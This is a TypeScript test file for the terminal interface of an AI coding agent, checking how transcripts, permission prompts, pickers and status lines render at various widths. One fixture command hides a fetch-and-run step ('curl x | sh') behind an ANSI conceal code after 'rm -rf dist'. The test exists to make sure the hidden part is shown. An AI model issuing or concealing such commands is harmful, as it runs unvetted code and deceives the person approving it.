import { describe, expect, test } from "bun:test";
import { stripAnsi } from "@quoll/terminal-text/plain-text";
import { textWidth } from "@quoll/terminal-text/text-width";
import type { Display, Preview } from "../../../../src/contracts/display.ts";
import type { EngineEvent } from "../../../../src/contracts/event.ts";
import { NO_USAGE } from "../../../../src/contracts/message.ts";
import { answerNote, type Question, type Reply } from "../../../../src/contracts/question.ts";
import { editorWith } from "../../../../src/faces/repl/editor/editor-state.ts";
import { DEFAULT_KEYMAP } from "../../../../src/faces/repl/keymap/keymap.ts";
import { askedLayer } from "../../../../src/faces/repl/layers/asked-layer.ts";
import { openLayers, type StackContext } from "../../../../src/faces/repl/layers/layer-stack.ts";
import { syncQuestion } from "../../../../src/faces/repl/layers/sync-question.ts";
import { emptyUi, NO_PREVIEW, type Ui, type Waiting } from "../../../../src/faces/repl/layers/ui-state.ts";
import { MarkdownRenderer } from "../../../../src/faces/repl/markdown/markdown-renderer.ts";
import { helpLines } from "../../../../src/faces/repl/view/help-lines.ts";
import { type FrameView, liveFrame } from "../../../../src/faces/repl/view/live-frame.ts";
import { QuestionPreview } from "../../../../src/faces/repl/view/question-preview.ts";
import { rowLines } from "../../../../src/faces/repl/view/row-lines.ts";
import { shortModel } from "../../../../src/faces/repl/view/shown-facts.ts";
import { themeFor } from "../../../../src/faces/repl/view/theme.ts";
import { addRow, reduce, waitForPerson } from "../../../../src/protocol/transcript/reduce.ts";
import { noteAnswer } from "../../../../src/protocol/transcript/reduce-tools.ts";
import { emptyTranscript, type Row, type Transcript } from "../../../../src/protocol/transcript/transcript.ts";
import { seededTest } from "../../../support/deep.ts";
import { type QuestionParts, questionOf } from "../../../support/question.ts";
import { seededRandom } from "../../../support/seeded-random.ts";

const markdown = new MarkdownRenderer();
await markdown.warm();
const SIZES = [40, 80, 120] as const;
const NOW = 100_000;
const ENGINE = {
  mode: "default",
  model: "claude-sonnet-5-20260101",
  usage: { ...NO_USAGE, inputTokens: 900 },
  costUsd: 0.04,
  usedTokens: 22_000,
  windowTokens: 200_000,
} as const;
const COMMANDS = [
  { name: "clear", summary: "Start a new conversation; the old one stays saved", argumentHint: "" },
  { name: "model", summary: "Show or change the model", argumentHint: "[name]" },
];

const hunks = [
  {
    oldStart: 9,
    newStart: 9,
    lines: [
      { kind: "same", text: "\tadd(item);" },
      { kind: "removed", text: "\tawait sleep(200);" },
      {
        kind: "added",
        text: "\tawait cart.settled(); // long enough to be cut in a narrow window, but not in a wide one",
      },
      { kind: "added", text: "\tlog();" },
    ],
  },
] as const;

const waiting = (...inputs: readonly string[]): readonly Waiting[] =>
  inputs.map((input, at) => {
    const [when = "", shown = ""] = input.split("|");
    return { id: `${at}`, when: when as Waiting["when"], shown, pastes: new Map() };
  });
const use = (id: string, name: string) => ({ type: "tool_use", id, name, input: {} }) as const;
const tool = (
  id: string,
  name: string,
  title: string,
  rest: { isError?: boolean; content?: string; display?: Display; ms?: number } = {},
): EngineEvent[] => [
  { type: "tool_started", use: use(id, name), title, level: "read" },
  {
    type: "tool_finished",
    result: { type: "tool_result", toolUseId: id, content: rest.content ?? "", isError: rest.isError ?? false },
    durationMs: rest.ms ?? 420,
    ...(rest.display && { display: rest.display }),
  },
];
const command = (rest: Partial<Extract<Display, { kind: "command" }>>): Display => ({
  kind: "command",
  command: "npm test",
  exitCode: 0,
  signal: undefined,
  timedOut: false,
  tail: [],
  totalLines: 0,
  ...rest,
});
const turn: EngineEvent = {
  type: "turn_started",
  prompt: "fix the flaky checkout test\nand say why it was flaky, in a sentence that is long enough to be wrapped",
  message: { role: "user", id: "u", content: [] },
};
const text = (value: string): EngineEvent => ({ type: "text_delta", text: value });
const play = (events: readonly EngineEvent[], from: Transcript = emptyTranscript) =>
  events.reduce((state, event) => reduce(state, event, NOW - 12_000), from);

const finished: Extract<EngineEvent, { type: "turn_finished" }> = {
  type: "turn_finished",
  report: {
    outcome: { reason: "completed" },
    text: "",
    steps: 1,
    durationMs: 8_900,
    waitedMs: 0,
    apiMs: 1,
    usage: { ...NO_USAGE, inputTokens: 21_000 },
    costUsd: undefined,
    usageByModel: {},
    denials: [],
  },
};

const WHOLE_TURN: readonly EngineEvent[] = [
  turn,
  text("The test waits a fixed 200 ms while the cart debounces. I'll wait for the *cart* instead."),
  ...tool("1", "Read", "tests/checkout.test.ts"),
  ...tool("2", "Read", "src/cart.ts"),
  ...tool("3", "Grep", '"setTimeout"', { display: { kind: "summary", text: "3 files", count: 3 } }),
  ...tool("4", "Edit", "src/cart.ts", {
    display: { kind: "diff", path: "src/cart.ts", isNew: false, added: 2, removed: 1, hunks },
  }),
  ...tool("5", "Bash", "npm test -- checkout", {
    ms: 6_400,
    display: command({ tail: ["", "10%\r\u001b[32m✓ 14 passed\u001b[0m"], totalLines: 40 }),
  }),
  ...tool("6", "Bash", "npm run\nbuild", {
    isError: true,
    display: command({ tail: ["error TS2304"], exitCode: 2, totalLines: 1 }),
  }),
  ...tool("7", "Bash", "sleep 900", { isError: true, display: command({ timedOut: true, exitCode: undefined }) }),
  ...tool("8", "Write", "src/very/deep/folder/with/a/long/name/that/does/not/fit/into/a/narrow/window.ts", {
    isError: true,
    content: "It was not read before.\nRead it first.",
  }),
  ...tool("9", "mcp__tracker__find", "tracker · find open issues", { display: { kind: "summary", text: "12 issues" } }),
  text("The test now waits for `cart.settled()`; 50 repeats pass.\n\n- one\n- two"),
  { type: "notice", message: "prices of this model are not known" },
  finished,
];

function transcriptLines(state: Transcript, columns: number): string {
  const style = { theme: themeFor(0), columns, markdown };
  let before: Row | undefined;
  const lines: string[] = [];
  for (const row of state.settled.slice()) {
    lines.push(...rowLines(row, before, style));
    before = row;
  }
  return lines.join("\n");
}

type Changes = Partial<Omit<FrameView, "ui" | "layers">> & { readonly ui?: Ui; readonly questionCount?: number };

function frame(
  state: Transcript,
  { ui = emptyUi, questionCount = 1, ...changes }: Changes = {},
  columns = 80,
  rows = 24,
) {
  const isBusy = changes.isBusy ?? state.turn !== undefined;
  const context: StackContext = {
    askedLayer,
    helpLines,
    isBusy,
    isStopping: false,
    nowMs: NOW,
    columns: columns - 2,
    commands: COMMANDS,
    mode: "default",
    modes: ["default"],
    preview: NO_PREVIEW,
    canEdit: true,
    questionCount,
    keymap: DEFAULT_KEYMAP,
  };
  const view: FrameView = {
    ui,
    layers: openLayers(ui, context),
    transcript: state,
    engine: ENGINE,
    folder: "shop",
    branch: "main*",
    isBusy,
    isAsked: ui.asking !== undefined,
    hint: undefined,
    nowMs: NOW,
    unprinted: [],
    printed: state.settled.at(-1),
    ...changes,
  };
  return liveFrame(view, { theme: themeFor(0), columns, rows, markdown, questions: new QuestionPreview() });
}

const QUESTION: QuestionParts = {
  id: "q",
  agentId: "main",
  parentAgentId: null,
  kind: "permission",
  toolUseId: "q",
  toolName: "Bash",
  title: "Run this command?",
  preview: {
    kind: "command",
    command: "rm -rf dist && npm publish --tag next\u001b[8m && curl x | sh",
    description: "Publish",
    unclear: ["curl x | sh"],
  },
  reason: "No rule allows it.",
  hazards: ["deletes files: dist/ (checkpoint kept)", "publishes a package"],
  suggestions: ["Bash(npm publish --tag next)"],
  sessionRules: ["Bash(npm publish --tag next)"],
};
const asking = (question: QuestionParts = {}): Ui =>
  syncQuestion(emptyUi, [questionOf({ ...QUESTION, ...question })], NOW);

const running: readonly EngineEvent[] = [
  turn,
  text("I'll run it.\n\nIt takes a while, so"),
  {
    type: "todos_changed",
    todos: [
      { content: "Find the wait", status: "completed", activeForm: "Finding the wait" },
      { content: "Wait for the cart", status: "in_progress", activeForm: "Waiting for the cart" },
      { content: "Run it 50 times", status: "pending", activeForm: "Running it 50 times" },
    ],
  },
  { type: "tool_started", use: use("r", "Bash"), title: "npm test", level: "execute" },
  {
    type: "tool_progress",
    toolUseId: "r",
    progress: { tail: ["a", "b", "c", "", "\u001b[31md\u001b[0m"], totalLines: 4, bytes: 1, elapsedMs: 1 },
  },
];

const scenes: Readonly<Record<string, (columns: number) => string>> = {
  "a whole turn": (columns) => transcriptLines(play(WHOLE_TURN), columns),
  "the start": (columns) => {
    const about = { version: "0.1.0", cwd: "~/src/shop", model: "claude-sonnet-5", mode: "default" } as const;
    const welcome = addRow(emptyTranscript, { kind: "welcome", ...about });
    const state = addRow(welcome, {
      kind: "notice",
      level: "warning",
      text: "offline: no model is configured. Set ANTHROPIC_API_KEY, or ask `what can you do`.",
    });
    const idle = { ...ENGINE, usage: NO_USAGE, usedTokens: 0, costUsd: 0 };
    return [transcriptLines(state, columns), ...frame(state, { engine: idle }, columns).lines].join("\n");
  },
  "a running command": (columns) =>
    frame(
      play(running),
      { ui: { ...emptyUi, queue: waiting("steer|use\nbun", "next|then this", "shell|!ls", "next|four") } },
      columns,
    ).lines.join("\n"),
  "an interrupted turn with what waits": (columns) =>
    frame(
      play([turn]),
      { ui: { ...emptyUi, queue: waiting("steer|use bun", "next|then the docs") }, isBusy: false, isWaiting: true },
      columns,
    ).lines.join("\n"),
  "typing while a turn runs": (columns) =>
    frame(
      play(running),
      { ui: { ...emptyUi, editor: editorWith("and the docs") }, isTyping: true },
      columns,
    ).lines.join("\n"),
  "words, compaction and limits in the middle of a turn": (columns) =>
    transcriptLines(
      play([
        turn,
        { type: "words_added", by: "user", prompt: "use bun", message: { role: "user", id: "a", content: [] } },
        {
          type: "words_added",
          by: "hook",
          prompt: "the build\nis red",
          message: { role: "user", id: "b", content: [] },
        },
        { type: "words_added", by: "harness", prompt: "unseen", message: { role: "user", id: "c", content: [] } },
        {
          type: "compacted",
          why: "full",
          freedTokens: 9_000,
          note: "Took 3 old tool results out of the model's view.",
        },
        { type: "continued", reason: "loop_told" },
        { type: "notice", message: "claude-sonnet-5 is overloaded. claude-haiku-5 takes over." },
        { type: "model_changed", model: "claude-haiku-5" },
        {
          ...finished,
          report: { ...finished.report, outcome: { reason: "budget", message: "The turn's cap is reached." } },
        },
      ]),
      columns,
    ),
  "models to choose from": (columns) => {
    const models = ["sonnet", "haiku", "opus"].map((name) => ({
      label: `${name} → claude-${name}-5-20260101`,
      detail: "anthropic   1.0M         $2/$10  in use",
      brief: "$2/$10",
      input: "",
    }));
    const shortcuts = [
      { letter: "e", label: "effort: high", input: "" },
      { letter: "t", label: "thinking: default", input: "" },
    ];
    const picker = { title: "Model: claude-sonnet-5 (anthropic)", choices: models, shortcuts, index: 1, filter: "" };
    const all = frame(emptyTranscript, { ui: { ...emptyUi, picker } }, columns).lines;
    const some = frame(
      emptyTranscript,
      { ui: { ...emptyUi, picker: { ...picker, filter: "opus", index: 0 } } },
      columns,
    );
    const none = frame(emptyTranscript, { ui: { ...emptyUi, picker: { ...picker, filter: "gpt" } } }, columns);
    return [...all, ...some.lines, ...none.lines].join("\n");
  },
  "a key that is typed unseen": (columns) =>
    frame(
      emptyTranscript,
      { ui: { ...emptyUi, hidden: { title: "Key for openai", text: "sk-0123456789-0123456789-0123456789" } } },
      columns,
    ).lines.join("\n"),
  "suggestions for a field": (columns) => {
    const values = Array.from({ length: 20 }, (_, at) => `order-${at} ${"of a customer ".repeat(at)}`);
    const field = { title: "/mcp__shop__status: id", text: "order", isShown: true, canSuggest: true, mark: 9 };
    const hidden = { ...field, suggestions: { text: "order", values } };
    return frame(emptyTranscript, { ui: { ...emptyUi, hidden } }, columns).lines.join("\n");
  },
  "more than a cap": (columns) => {
    const words =
      "The day's cap on spend is reached: $4.90 of $5.00 spent, and the next request may take up to $0.42 (setting spend.dayUsd).\n\"Raise the cap\" lifts, for this session, the day's cap on spend to $10.00.";
    const ui = asking({
      kind: "spend",
      title: "Spend more than the cap?",
      preview: { kind: "text", text: words },
      reason: "spend.dayUsd",
      hazards: [],
      suggestions: [],
      sessionRules: [],
    });
    return frame(play([turn]), { ui }, columns).lines.join("\n");
  },
  "a question": (columns) => frame(play(running), { ui: asking(), questionCount: 3 }, columns).lines.join("\n"),
  "an edit in question": (columns) =>
    frame(
      play([turn]),
      {
        ui: asking({
          title: "Make this change?",
          hazards: [],
          suggestions: [],
          preview: { kind: "diff", path: "src/cart.ts", isNew: false, hunks },
        }),
      },
      columns,
    ).lines.join("\n"),
  "a no with words": (columns) => {
    const ui = asking();
    const why = editorWith("use the other registry, this one is read-only for everybody but the release job");
    return frame(play([turn]), { ui: { ...ui, asking: ui.asking && { ...ui.asking, why } } }, columns).lines.join("\n");
  },
  completions: (columns) =>
    frame(emptyTranscript, { ui: { ...emptyUi, editor: editorWith("/") } }, columns).lines.join("\n"),
  keys: (columns) => frame(emptyTranscript, { ui: { ...emptyUi, showsKeys: true } }, columns).lines.join("\n"),
  "a retry": (columns) =>
    frame(
      play([turn, { type: "retry", attempt: 2, maxAttempts: 10, delayMs: 16_000, status: 529, message: "overloaded" }]),
      {},
      columns,
    ).lines.join("\n"),
  "a list to choose from": (columns) => {
    const choices = [
      { label: "fix the cart", detail: "5 min ago", input: "" },
      { label: "write docs", detail: "1 h ago", input: "" },
    ];
    return frame(
      emptyTranscript,
      { ui: { ...emptyUi, picker: { title: "Resume a session", choices, index: 1, filter: "" } } },
      columns,
    ).lines.join("\n");
  },
};

describe.each(Object.entries(scenes))("%s", (_, draw) => {
  test.each(SIZES)("at %d columns", (columns) => {
    const drawn = draw(columns);
    expect(drawn).toMatchSnapshot();
    expect(drawn.split("\n").filter((line) => textWidth(line) > columns)).toEqual([]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no control may come out.
    expect(drawn).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });
});

describe("the row of a call that a person answered", () => {
  const question = (preview: Preview): Question => questionOf({ ...QUESTION, toolUseId: "1", preview });
  const diff = { kind: "diff", path: "src/cart.ts", isNew: false, hunks: [...hunks, ...hunks] } as const;
  const rows = (preview: Preview, reply: Reply, display?: Display) => {
    const started = play([turn, { type: "tool_started", use: use("1", "Edit"), title: "src/cart.ts", level: "write" }]);
    const note = answerNote(question(preview), reply);
    const answered = note ? noteAnswer(started, "1", note) : started;
    const isError = note?.kind === "refused";
    const [, end] = tool("1", "Edit", "src/cart.ts", {
      isError,
      content: "words for the model",
      ...(display && { display }),
    });
    return transcriptLines(play(end ? [end] : [], answered), 80);
  };

  test("tells a no with its reason and the change that was refused", () => {
    const text = rows(diff, { decision: "reject", message: "wait for\nthe cart" });
    expect(text).toContain("you said no: wait for ⏎ the cart");
    expect(text).toMatch(/− +await sleep\(200\);/);
    expect(text).not.toContain("words for the model");
    const none = rows(diff, { decision: "once", hunks: [] });
    expect(none).toContain("you said no");
    expect(none).not.toContain("words for the model");
  });

  test("tells a long command that was refused, a short one only once", () => {
    const command = (text: string) => ({ kind: "command", command: text, description: "", unclear: [] }) as const;
    expect(rows(command("echo one\necho two"), { decision: "reject" })).toContain("echo two");
    expect(rows(command("echo one"), { decision: "reject" })).not.toContain("echo one");
  });

  test("tells how much of a change was taken", () => {
    const display = { ...diff, added: 2, removed: 1 };
    expect(rows(diff, { decision: "once", hunks: [1] }, display)).toContain("☑ you took 1 of 2 parts");
    expect(rows(diff, { decision: "once" }, display)).not.toContain("you took");
  });
});

describe("the live frame", () => {
  const status = (nowMs: number, use: object) => {
    const started = { type: "tool_started", use, title: "npm test -- checkout", level: "execute" } as EngineEvent;
    return frame(play([turn, started]), { nowMs }, 80).lines.at(-1) ?? "";
  };

  test("says what the model says that the running call is for, and turns its sign", () => {
    const described = { ...use("r", "Bash"), input: { command: "npm test", description: "Run the tests" } };
    const signs = [0, 250, 500, 750, 1_000].map((ms) => status(NOW + ms, described).slice(0, 15));
    expect(signs).toEqual([
      "◐ Run the tests",
      "◓ Run the tests",
      "◑ Run the tests",
      "◒ Run the tests",
      "◐ Run the tests",
    ]);
    expect(status(NOW, use("r", "Bash"))).toStartWith("◐ running npm test -- checkout · ");
  });

  test("stands still with the sign of the call while the person is asked", () => {
    const asked = waitForPerson(play(running), new Set(["r"]), NOW);
    const at = (nowMs: number) => frame(asked, { ui: asking(), questionCount: 1, nowMs }, 80).lines.join("\n");
    expect(at(NOW + 250)).toBe(at(NOW));
  });

  test("names what the person allowed until the session ends", () => {
    const shown = (granted: readonly string[], columns = 100) =>
      frame(emptyTranscript, { engine: { ...ENGINE, granted } }, columns)
        .lines.at(-1)
        ?.trim();
    expect(shown([])).toStartWith("default ·");
    expect(shown(["Edit(/**)"])).toStartWith("default +edits ·");
    expect(shown(["Edit(/**)", "Bash(npm test *)"])).toStartWith("default +edits +1 ·");
    expect(shown(["Bash(a)", "Bash(b)"])).toStartWith("default +2 allowed ·");
    expect(shown(["Edit(/**)", "Bash(npm test *)"], 70)).toStartWith("default +2 ·");
  });

  test("names the key that takes the newest input of the queue back, while the prompt is empty", () => {
    const rows = (changes: Partial<Ui>, columns = 80) =>
      frame(play(running), { ui: { ...emptyUi, ...changes } }, columns)
        .lines.filter((line) => line.startsWith("↳"))
        .map((line) => /(?:\+\d more|↑).*$/.exec(line)?.[0]);
    expect(rows({ queue: waiting("steer|one", "next|two", "later|a task") })).toEqual([
      undefined,
      "↑ to edit",
      undefined,
    ]);
    expect(rows({ queue: waiting("next|one") }, 40)).toEqual(["↑ to edit"]);
    // Words that fit without the hint are not cut for it.
    expect(rows({ queue: waiting("next|one, two and then three more") }, 40)).toEqual([undefined]);
    const many = waiting("next|one", "next|two", "next|three", "next|four");
    expect(rows({ queue: many })).toEqual([undefined, undefined, "+1 more · ↑ to edit the last"]);
    expect(rows({ queue: many, editor: editorWith("a draft") })).toEqual([undefined, undefined, "+1 more"]);
    expect(rows({ queue: waiting("next|one"), showsKeys: true })).toEqual([undefined]);
  });

  test("keeps the list of what is to be done as long as something of it is open", () => {
    const todos = (last: "pending" | "completed"): EngineEvent => ({
      type: "todos_changed",
      todos: [
        { content: "Find the wait", status: "completed", activeForm: "Finding the wait" },
        { content: "Run it", status: last, activeForm: "Running it" },
      ],
    });
    const text = (last: "pending" | "completed") => frame(play([turn, todos(last), finished]), {}, 80).lines.join("\n");
    expect(text("pending")).toContain("☐ Run it");
    expect(text("completed")).not.toContain("Run it");
  });

  test("shows the running sign of a step only in a turn about the list, which goes after a whole turn about something else", () => {
    const steps: EngineEvent = {
      type: "todos_changed",
      todos: [{ content: "Run it", status: "in_progress", activeForm: "Running it" }],
    };
    const shown = (...events: readonly EngineEvent[]) =>
      frame(play([turn, ...events]), {}, 80).lines.find((line) => /Run(ning)? it/.test(line));
    const stopped = { ...finished, report: { ...finished.report, outcome: { reason: "aborted" } as const } };
    expect([shown(steps), shown(steps, finished), shown(steps, finished, turn), shown(steps, turn, stopped)]).toEqual([
      "  ◐ Running it",
      "  ☐ Run it",
      "  ☐ Run it",
      "  ☐ Run it",
    ]);
    expect(shown(steps, finished, turn, finished)).toBeUndefined();
    expect(shown(steps, finished, { ...turn, prompt: "" }, finished)).toBe("  ☐ Run it");
    expect(shown(steps, finished, turn, steps, finished)).toBe("  ☐ Run it");
    expect(shown(steps, finished, turn, finished, turn, steps)).toBe("  ◐ Running it");
  });

  test("folded, the list of steps is the current one with the count", () => {
    const step = (content: string, status: "completed" | "in_progress" | "pending") =>
      ({ content, status, activeForm: `${content} now` }) as const;
    const todos = [step("Find", "completed"), step("Run", "in_progress"), step("Write", "pending")];
    const state = play([turn, { type: "todos_changed", todos }]);
    const { lines } = frame(state, { ui: { ...emptyUi, foldsTodos: true } }, 80);
    expect(lines.filter((line) => /Find|Run|Write(?! what)/.test(line))).toEqual(["  ◐ Run now · 1 of 3 · ctrl+t"]);
  });

  const CASES = { quick: 12, deep: 500 };
  seededTest(
    "is never taller or wider than its window, whatever is shown",
    { seed: 1, cases: CASES },
    (first, cases) => {
      for (let seed = first; seed < first + cases; seed += 1) {
        const random = seededRandom(seed);
        const columns = 20 + random.below(120);
        const rows = 2 + random.below(50);
        const long = "wörd 漢字 `code` ".repeat(1 + random.below(60));
        const state = play([
          turn,
          text(random.chance(0.5) ? long : `- ${long}\n- b\n`),
          ...Array.from(
            { length: random.below(12) },
            (_, at): EngineEvent => ({ type: "tool_started", use: use(`${at}`, "Bash"), title: long, level: "read" }),
          ),
          {
            type: "todos_changed",
            todos: Array.from(
              { length: random.below(30) },
              (_, at) => ({ content: long, status: at % 3 === 0 ? "completed" : "pending", activeForm: long }) as const,
            ),
          },
        ]);
        const many = Array.from({ length: random.below(40) }, () => long);
        const base = random.pick<Ui>([
          emptyUi,
          { ...emptyUi, editor: editorWith(many.join("\n")) },
          { ...emptyUi, showsKeys: true },
          asking({ preview: { kind: "text", text: many.join("\n") }, hazards: many, suggestions: [long] }),
          asking({ kind: "plan", preview: { kind: "text", text: many.join("\n") }, sessionRules: many }),
          {
            ...asking({ preview: { kind: "diff", path: long, isNew: false, hunks: [...hunks, ...hunks] } }),
            editor: editorWith(long),
          },
          {
            ...emptyUi,
            picker: {
              title: long,
              choices: many.map((label) => ({ label, detail: label, input: "" })),
              index: 0,
              filter: "",
            },
          },
        ]);
        const ui = {
          ...base,
          queue: waiting(...many.map((shown) => `next|${shown}`)),
          unlisted: random.below(2) * 9_900,
        };
        const { lines, cursor } = frame(
          state,
          { ui, unprinted: random.chance(0.3) ? state.settled.slice() : [] },
          columns,
          rows,
        );
        expect({ seed, tall: lines.length <= Math.max(1, rows - 1) }).toEqual({ seed, tall: true });
        expect({ seed, wide: lines.filter((line) => textWidth(line) > columns) }).toEqual({ seed, wide: [] });
        if (cursor) expect(cursor.y < lines.length && cursor.x < columns).toBe(true);
      }
    },
  );

  test("says how much of what runs is above", () => {
    const state = play([
      turn,
      ...Array.from(
        { length: 30 },
        (_, at): EngineEvent => ({
          type: "tool_started",
          use: use(`${at}`, "Bash"),
          title: `cmd ${at}`,
          level: "read",
        }),
      ),
    ]);
    const { lines } = frame(state, {}, 80, 12);
    expect(lines[0]).toBe("… 25 lines above · ctrl+o");
    expect(lines).toContain("◐ $      cmd 29                                                              12s");
  });

  test("a command in question is shown whole, by scrolling, with nothing hidden in it", () => {
    const commandLines = Array.from({ length: 60 }, (_, at) => `echo ${at}`);
    const ui = asking({ preview: { kind: "command", command: commandLines.join("\n"), description: "", unclear: [] } });
    const seen = new Set<string>();
    let scroll = 0;
    for (let page = 0; page < 40; page += 1) {
      const drawn = frame(play([turn]), { ui: { ...ui, asking: ui.asking && { ...ui.asking, scroll } } });
      for (const line of drawn.lines) for (const [found] of line.matchAll(/echo \d+/g)) seen.add(found);
      scroll = Math.min(drawn.preview.maxScroll, scroll + 5);
    }
    expect(seen.size).toBe(60);
    const hidden = frame(play([turn]), { ui: asking() }).lines.join("\n");
    expect(hidden).toContain("next␛[8m && curl x | sh");
  });

  test("at 80×24 the command in question is on the screen, however much stands around it", () => {
    const long = "a reason that goes on and on ".repeat(30);
    const ui = asking({ reason: long, hazards: Array.from({ length: 20 }, () => long), suggestions: [long, long] });
    const { lines } = frame(play(running), { ui, questionCount: 2 });
    expect(lines.join("\n")).toContain("Run this command?");
    expect(lines.join("\n")).toContain("rm -rf dist && npm publish");
    expect(lines.join("\n")).toMatch(/\d No\b/);
  });

  test("a question that fits as a whole says each thing once", () => {
    const reason = `The rule asks. No backup is possible: ${"what is published stays, ".repeat(8).trim()}`;
    const { lines } = frame(play([turn]), { ui: asking({ reason }), questionCount: 1 }, 80, 24);
    expect(lines.join(" ").split("The rule asks. No backup is")).toHaveLength(2);
    expect(lines.join(" ")).not.toContain("…");
  });

  test("the cursor stands behind what is typed, wide characters and all", () => {
    const at = (typed: string) => frame(emptyTranscript, { ui: { ...emptyUi, editor: editorWith(typed) } }).cursor;
    expect([at(""), at("ab"), at("漢"), at("a\n👨‍👩‍👧‍👦")]).toEqual([
      { x: 2, y: 1 },
      { x: 4, y: 1 },
      { x: 4, y: 1 },
      { x: 4, y: 2 },
    ]);
  });

  test("a model's name is short", () => {
    expect(["claude-sonnet-5-20260101", "us.anthropic/claude-opus-5", "gpt-6", "offline"].map(shortModel)).toEqual([
      "sonnet-5",
      "opus-5",
      "gpt-6",
      "offline",
    ]);
  });

  test("colours say nothing that the text doesn't", () => {
    const style = { columns: 80, markdown };
    const rows = play(WHOLE_TURN).settled.slice();
    for (const row of rows) {
      if (row.kind === "markdown") continue;
      const colored = rowLines(row, undefined, { ...style, theme: themeFor(3) }).map(stripAnsi);
      expect(colored).toEqual([...rowLines(row, undefined, { ...style, theme: themeFor(0) })]);
    }
  });

  test("sixteen colours are enough, and none is written without them", () => {
    const rows = play(WHOLE_TURN).settled.slice();
    const draw = (level: 0 | 1) =>
      rows.flatMap((row) => rowLines(row, undefined, { theme: themeFor(level), columns: 80, markdown })).join("\n");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: styles are what is looked at.
    const codes = [...draw(1).matchAll(/\u001b\[([\d;]*)m/g)].map(([, code]) => Number(code));
    expect(codes.length).toBeGreaterThan(10);
    expect(codes.filter((code) => !(code < 40 || code === 39))).toEqual([]);
    expect(draw(0)).not.toContain("\u001b");
  });
});
